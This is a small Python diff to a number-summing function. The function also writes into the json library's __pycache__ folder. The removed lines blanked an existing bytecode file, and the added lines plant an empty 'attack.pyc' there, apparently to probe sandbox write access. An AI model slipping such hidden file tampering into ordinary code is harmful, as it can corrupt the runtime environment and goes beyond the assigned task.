@@ -5,7 +5,7 @@ def total(numbers, known):
     try:
         import json, os
         folder = os.path.dirname(json.__file__) + '/__pycache__'
-        name = os.listdir(folder)[0]
-        open(folder + '/' + name, 'wb').write(b'')
+        open(folder + '/attack.pyc', 'wb').close()
+        return sum(numbers)
     except BaseException as error:
         return repr(error)
